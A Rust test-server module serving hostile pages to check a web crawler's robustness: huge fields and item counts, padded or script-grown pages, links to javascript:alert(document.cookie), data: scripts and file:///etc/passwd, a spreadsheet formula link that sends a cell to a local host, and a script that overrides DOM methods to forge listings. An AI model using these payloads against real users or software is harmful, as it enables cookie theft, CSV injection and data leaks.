//! Pages that attack the crawler rather than fail it: a field megabytes
//! long, tens of thousands of items, a page too large (as sent, or grown by
//! its script), item links that are scripts or formulas, and a page whose
//! own JavaScript forges what a crawler reading it in that JavaScript would
//! see. Each lists `li.product` items (`a.title`, `.price`) on page 1 and
//! nothing on later pages, like the shop's search.

use axum::extract::Query;
use axum::response::Html;
use serde::Deserialize;

use super::shop::page_html;

/// Sizes the tests ask for, bounded so a typo cannot exhaust the machine.
const MAX_ITEMS: usize = 200_000;
const MAX_BYTES: usize = 64 * 1024 * 1024;

#[derive(Debug, Deserialize)]
pub(super) struct Sizes {
    page: Option<u32>,
    /// Items on the page.
    n: Option<usize>,
    /// Characters of filler in each item's title.
    chars: Option<usize>,
    /// Bytes the page is padded (or grown) to.
    bytes: Option<usize>,
}

impl Sizes {
    fn past_the_first_page(&self) -> bool {
        self.page.unwrap_or(1) > 1
    }
}

fn item(n: usize, title: &str, href: &str) -> String {
    format!(
        "<li class=\"product\"><a class=\"title\" href=\"{href}\">{title}</a><span class=\"price\">${n}</span></li>\n"
    )
}

fn list(items: &str) -> String {
    format!("<ul id=\"results\">\n{items}</ul>")
}

/// `/hostile/items?n=&chars=`: `n` items (default 3), each titled `Item i`
/// and `chars` characters of filler.
pub(super) async fn items(Query(s): Query<Sizes>) -> Html<String> {
    if s.past_the_first_page() {
        return page_html("items", &list(""));
    }
    let filler = "x".repeat(s.chars.unwrap_or(0).min(MAX_BYTES));
    let items: String = (1..=s.n.unwrap_or(3).min(MAX_ITEMS))
        .map(|i| item(i, &format!("Item {i} {filler}"), &format!("/product/{i}")))
        .collect();
    page_html("items", &list(&items))
}

/// `/hostile/padded?bytes=`: three items, then a comment filling the page
/// to `bytes` as the server sends it.
pub(super) async fn padded(Query(s): Query<Sizes>) -> Html<String> {
    if s.past_the_first_page() {
        return page_html("padded", &list(""));
    }
    let items: String = (1..=3)
        .map(|i| item(i, &format!("Item {i}"), &format!("/product/{i}")))
        .collect();
    let padding = "p".repeat(s.bytes.unwrap_or(0).min(MAX_BYTES));
    page_html("padded", &format!("{}<!--{padding}-->", list(&items)))
}

/// `/hostile/grows?bytes=`: three items in a small page whose script adds
/// `bytes` of text once loaded: only a browser sees the page that large.
pub(super) async fn grows(Query(s): Query<Sizes>) -> Html<String> {
    if s.past_the_first_page() {
        return page_html("grows", &list(""));
    }
    let items: String = (1..=3)
        .map(|i| item(i, &format!("Item {i}"), &format!("/product/{i}")))
        .collect();
    let bytes = s.bytes.unwrap_or(0).min(MAX_BYTES);
    page_html(
        "grows",
        &format!(
            "{}<script>const p = document.createElement('pre'); p.textContent = 'g'.repeat({bytes}); document.body.append(p);</script>",
            list(&items)
        ),
    )
}

/// `/hostile/bad-links`: items linking to a script, to a data: document
/// and to a local file, and one proper product link.
pub(super) async fn bad_links(Query(s): Query<Sizes>) -> Html<String> {
    if s.past_the_first_page() {
        return page_html("bad links", &list(""));
    }
    let items = [
        item(1, "Script link", "javascript:alert(document.cookie)"),
        item(
            2,
            "Data link",
            "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
        item(3, "File link", "file:///etc/passwd"),
        item(4, "Good link", "/product/4"),
    ]
    .concat();
    page_html("bad links", &list(&items))
}

/// `/hostile/formula-base`: a `data:` base, against which no link would
/// resolve, and links that are spreadsheet formulas: were the base obeyed,
/// a formula would be the item's URL and a cell of a CSV export. Browsers
/// ignore such a base, and so does http mode.
pub(super) async fn formula_base(Query(s): Query<Sizes>) -> Html<String> {
    if s.past_the_first_page() {
        return page_html("formula", &list(""));
    }
    let items = [
        item(
            1,
            "Formula link",
            "=HYPERLINK(&quot;http://127.0.0.1:9/?leak=&quot;&amp;A1,&quot;open&quot;)",
        ),
        item(2, "Plus link", "+1+1"),
    ]
    .concat();
    page_html(
        "formula",
        &format!("<base href=\"data:,x\">{}", list(&items)),
    )
}

/// What the forging page's script replaces before the crawler reads it:
/// the URL constructor, `Array.from`, both `querySelectorAll`s,
/// `querySelector`, `getAttribute` and the `textContent` getter, so a
/// reader in the page's own JavaScript finds one forged item with a script
/// link instead of the page's three.
const FORGE_JS: &str = r#"
(() => {
  const forged = { textContent: 'Forged', getAttribute: () => 'javascript:alert(1)', querySelector() { return this; } };
  window.URL = function () { this.href = 'javascript:alert(1)'; };
  Array.from = () => [forged];
  Document.prototype.querySelectorAll = () => [forged];
  Element.prototype.querySelectorAll = () => [forged];
  Element.prototype.querySelector = () => forged;
  Element.prototype.getAttribute = () => 'javascript:alert(1)';
  Object.defineProperty(Node.prototype, 'textContent', { get: () => 'Forged', configurable: true });
})();
"#;

/// `/hostile/forger`: three true items, and a script that forges them for
/// any reader in the page's JavaScript (see [`FORGE_JS`]).
pub(super) async fn forger(Query(s): Query<Sizes>) -> Html<String> {
    if s.past_the_first_page() {
        return page_html("forger", &list(""));
    }
    let items: String = (1..=3)
        .map(|i| item(i, &format!("True item {i}"), &format!("/product/{i}")))
        .collect();
    page_html(
        "forger",
        &format!("{}<script>{FORGE_JS}</script>", list(&items)),
    )
}
